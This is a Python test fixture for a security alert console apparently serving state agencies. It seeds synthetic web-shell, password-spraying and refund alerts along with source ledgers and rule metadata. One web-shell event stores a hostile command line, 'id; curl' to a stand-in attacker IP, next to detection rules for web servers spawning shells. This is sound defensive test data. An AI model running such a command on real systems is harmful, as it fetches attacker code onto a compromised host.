"""A store with a shift's worth of alerts, sources and rules, as detection writes them."""

from __future__ import annotations

import hashlib
from typing import Any

from almena.alert import alert_id, build, stamp
from almena.clock import HOUR, MINUTE, SECOND, format_time, now
from almena.console import RuleInfo
from almena.status import status
from almena.store import ALERTS, DEAD, LEDGER, Scope, Store
from almena.words import KEYS, words_of

AGENCIES = {
    "finanzas": "Secretaría de Finanzas y Administración",
    "registro": "Registro Público de la Propiedad",
    "educacion": "Secretaría de Educación",
}

WEB_SHELL: dict[str, Any] = {
    "id": "0f6b2c1e-5a0e-4c53-9f55-0a8d8f5a7f10",
    "name": "Web Server Spawns Shell",
    "title": "Web Server Spawns Shell",
    "version": "3f2a",
    "tags": ["attack.persistence", "attack.t1505.003"],
    "es": {
        "titulo": "Un servidor web abre una consola",
        "que_paso": "{process.parent.executable} abrió {process.executable} en {host.name}.",
        "por_que_importa": "Un servidor web no necesita una consola: es el primer acto de quien sembró una puerta.",
        "que_hacer": "Aísle {host.name}, conserve la memoria y revise los archivos subidos en las últimas 24 horas.",
        "falsos_positivos": "Programas CGI que llaman a la consola.",
    },
    "en": {
        "title": "A web server opens a shell",
        "what_happened": "{process.parent.executable} opened {process.executable} on {host.name}.",
        "why_it_matters": "A web server needs no shell: it is the first act of whoever planted a back door.",
        "what_to_do": "Isolate {host.name}, keep its memory and review the files uploaded in the last 24 hours.",
        "false_positives": "CGI programs that call the shell.",
    },
}

SPRAYING: dict[str, Any] = {
    "id": "e662c7d3-26b7-4440-a890-7231c3701ec5",
    "name": "Password spraying against officials",
    "title": "Password spraying against officials",
    "tags": ["attack.credential-access", "attack.t1110.003"],
    "es": {
        "titulo": "Alguien prueba una contraseña en muchas cuentas de servidores públicos",
        "que_paso": "Desde {source.ip} fallaron entradas a 8 o más cuentas en 10 minutos.",
        "por_que_importa": "Con una sola cuenta que abra, el atacante entra al correo y a los sistemas internos.",
        "que_hacer": "Bloquee {source.ip}. Busque si alguna de esas cuentas entró desde la misma dirección.",
        "falsos_positivos": "Una oficina detrás de una sola dirección el día que vencen las contraseñas.",
    },
    "en": {
        "title": "Somebody tries one password on many officials' accounts",
        "what_happened": "From {source.ip}, logins to 8 or more accounts failed within 10 minutes.",
        "what_to_do": "Block {source.ip}. Look for one of those accounts logging in from the same address.",
    },
}

REFUND: dict[str, Any] = {
    "id": "almena.payment_peer",
    "name": "Unusual refund",
    "title": "Unusual refund",
    "es": {
        "titulo": "Devolución fuera de lo acostumbrado",
        "que_paso": "{user.name} aprobó una devolución de {almena.payment.amount} pesos.",
        "que_hacer": "Detenga el pago y pida el expediente a quien lo capturó.",
    },
    "en": {"title": "Refund out of the ordinary", "what_happened": "{user.name} approved a refund."},
}


def alert(
    rule: dict[str, Any],
    level: str,
    event: dict[str, Any],
    *,
    at: int,
    agency: str,
    last: int | None = None,
    count: int = 1,
    explanation: dict[str, Any] | None = None,
    **fields: Any,
) -> dict[str, Any]:
    """One alert as the desk stores it."""
    first = {"@timestamp": format_time(at), "organization.id": agency, "event.id": f"{agency}:0:{at}", **event}
    final = first if last is None else {**first, "@timestamp": format_time(last), "event.id": f"{agency}:0:{last}"}
    words = words_of(rule, first)
    document = build(
        identity=alert_id(at, rule["id"], first["event.id"], appended=at),
        rule=rule,
        level=level,
        reason=words["es"]["what_happened"],
        words=words,
        first=first,
        last=final,
        count=count,
        explanation=explanation,
    )
    stamp(document, at + SECOND)
    parts = "\x1f".join((rule["id"], agency, document["almena.alert.entity"]))
    document["almena.alert.group"] = hashlib.blake2b(parts.encode(), digest_size=12).hexdigest()
    document["almena.alert.status"] = "open"
    return document | fields


def put(store: Store, *documents: dict[str, Any]) -> list[str]:
    """Store alerts; their ids."""
    outcome = store.create_many(ALERTS, {document["almena.alert.id"]: document for document in documents})
    assert set(outcome.values()) == {"created"}
    return list(outcome)


def web_shell(at: int, host: str = "portal-03", agency: str = "finanzas", **fields: Any) -> dict[str, Any]:
    """A critical alert with the tree of its rule."""
    event = {
        "event.dataset": "system.syslog",
        "host.name": host,
        "process.executable": "/usr/bin/dash",
        "process.parent.executable": "/usr/sbin/nginx",
        "process.command_line": "sh -c 'id; curl http://203.0.113.9/x'",
        "user.name": "www-data",
        "destination.ip": "203.0.113.9",
    }
    shell = [
        {"kind": "field", "selection": "shell", "field": "process.executable", "op": "endswith",
         "expected": ["/sh", "/bash", "/dash"], "seen": "/usr/bin/dash", "pass": True, "children": []},
    ]  # fmt: skip
    root = {
        "kind": "and",
        "pass": True,
        "children": [
            {"kind": "field", "selection": "server", "field": "process.parent.executable", "op": "endswith",
             "expected": ["/nginx", "/apache2"], "seen": "/usr/sbin/nginx", "pass": True, "children": []},
            {"kind": "or", "selection": "shell", "pass": True, "children": shell},
            {"kind": "not", "pass": True, "children": [
                {"kind": "field", "selection": "filter", "field": "user.name", "op": "equals",
                 "expected": ["deploy"], "seen": "www-data", "pass": False, "children": []}]},
        ],
    }  # fmt: skip
    return alert(
        WEB_SHELL,
        "critical",
        event,
        at=at,
        agency=agency,
        explanation={"condition": "server and shell and not filter", "root": root},
        **fields,
    )


def spraying(at: int, address: str, agency: str = "educacion", **fields: Any) -> dict[str, Any]:
    """A high alert of a correlation."""
    root = {
        "kind": "correlation",
        "type": "value_count",
        "group": {"source.ip": address},
        "value": 14,
        "threshold": "gte 8",
        "timespan": "10m",
    }
    event = {"event.dataset": "app.identity", "source.ip": address, "event.outcome": "failure"}
    return alert(
        SPRAYING,
        "high",
        event,
        at=at,
        last=at + 7 * MINUTE,
        count=14,
        agency=agency,
        explanation={"condition": "gte 8", "root": root},
        **fields,
    )


def refund(at: int, user: str = "lchavez", agency: str = "finanzas", **fields: Any) -> dict[str, Any]:
    """A medium alert of a model."""
    contributions = [
        {"feature": "monto frente a pares", "observed": "184,300.00", "expected": "2,150.00"},
        {"feature": "hora", "observed": "03:12", "expected": "09:00 a 17:00"},
    ]
    event = {"event.dataset": "app.payments", "user.name": user, "almena.payment.amount": 184300.0}
    return alert(
        REFUND,
        "medium",
        event,
        at=at,
        agency=agency,
        explanation={"condition": "peer", "root": {"kind": "model", "contributions": contributions}},
        **fields,
    )


def shift(store: Store, moment: int | None = None) -> int:
    """A whole shift's alerts, sources and rules; the moment they end."""
    end = now() if moment is None else moment
    put(store, *(web_shell(end - minutes * MINUTE) for minutes in (3, 9, 31)))
    put(store, web_shell(end - 26 * HOUR, "rpp-web-01", "registro", **{"almena.alert.status": "closed"}))
    put(store, *(spraying(end - minutes * MINUTE, f"198.51.100.{minutes}") for minutes in (12, 25, 40, 77)))
    put(store, spraying(end - 2 * HOUR, "203.0.113.40", "finanzas"), refund(end - 5 * HOUR))
    for index in range(24):
        kind, level = (REFUND, "medium") if index % 3 else (SPRAYING, "low")
        event = {"user.name": f"capturista{index:02d}", "source.ip": f"10.20.4.{index}"}
        put(store, alert(kind, level, event, at=end - (index * 13 + 1) * MINUTE, agency=list(AGENCIES)[index % 3]))
    ledger(store, end)
    return end


def ledger(store: Store, end: int) -> None:
    """Sources that speak, one that does not, dead letters, drops and a refused rule."""
    documents: dict[str, dict[str, Any]] = {}
    for name, agency, events, age in (
        ("portal", "finanzas", 1_284_113, 2 * SECOND),
        ("pagos", "finanzas", 88_214, 9 * SECOND),
        ("rpp-folios", "registro", 5_120, 3 * HOUR),
        ("correo", "educacion", 402_913, SECOND),
    ):
        for partition in (0, 1):
            documents[f"source/{name}/{partition}"] = {
                "@timestamp": format_time(end),
                "organization.id": agency,
                "almena.source.name": name,
                "almena.source.partition": partition,
                "almena.source.events": events // 2,
                "almena.source.repeats": 3,
                "almena.source.late": 12,
                "almena.source.future": 0,
                "almena.source.last_event": format_time(end - age - SECOND - partition * MINUTE),
                "almena.source.last_ingested": format_time(end - age - partition * MINUTE),
            }
    documents["drop/correo/queue full"] = {
        "@timestamp": format_time(end),
        "organization.id": "educacion",
        "almena.source.name": "correo",
        "almena.drop.reason": "queue full",
        "almena.drop.count": 5_210,
    }
    documents["rules"] = {
        "@timestamp": format_time(end),
        "almena.rules.loaded": 3,
        "almena.rules.rejected": [{"rule": "rota.yml", "reason": "línea 4: falta la condición"}],
        "almena.rules.hash": "abc",
    }
    store.create_many(LEDGER, documents)
    dead = {
        "@timestamp": format_time(end - HOUR),
        "organization.id": "finanzas",
        "almena.source.name": "portal",
        "almena.dead.parser": "nginx",
        "almena.dead.reason": "no date",
        "almena.dead.status": "open",
    }
    store.create_many(DEAD, {f"portal:0:{number}": dead for number in range(3)})


def rules() -> list[RuleInfo]:
    """The rules of the alerts above."""
    levels = {"Web Server Spawns Shell": "critical", "Password spraying against officials": "high"}
    return [
        RuleInfo(
            id=rule["id"],
            title={language: words["title"] for language, words in words_of(rule, {}).items()},
            words={
                language: {name: rule[language][key] for key, name in keys.items() if key in rule[language]}
                for language, keys in KEYS.items()
            },
            level=levels.get(rule["name"], "medium"),
            status="stable",
            kind="sigma" if "tags" in rule else "model",
            tags=tuple(rule.get("tags", ())),
            file=f"linux/{rule['id'][:6]}.yml",
            logsource="process_creation, linux",
            tests=4,
            description={"es": "Lo que la regla mira.", "en": "What the rule watches."},
            source="title: x\ndetection:\n  condition: selection\n",
        )
        for rule in (WEB_SHELL, SPRAYING, REFUND)
    ]


def state(store: Store) -> Any:
    """The real status function over a store."""

    def asked(scope: Scope, language: str) -> dict[str, Any]:
        return status(store, None, scope=scope, language=language, expected={"rpp-folios": 30 * MINUTE})

    return asked
